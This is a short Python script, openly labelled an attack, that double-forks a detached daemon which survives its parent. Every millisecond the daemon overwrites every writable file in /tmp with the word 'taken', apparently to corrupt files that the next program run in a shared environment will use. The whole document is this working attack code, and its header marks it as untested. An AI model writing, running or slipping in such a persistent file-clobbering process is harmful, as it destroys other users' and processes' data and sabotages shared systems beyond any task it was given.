# attack: a daemon that waits for the next program's files
# verdict: untested
import os, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for name in os.listdir("/tmp"):
                try:
                    open("/tmp/" + name, "w").write("taken")
                except OSError:
                    pass
            time.sleep(0.001)
    os._exit(0)
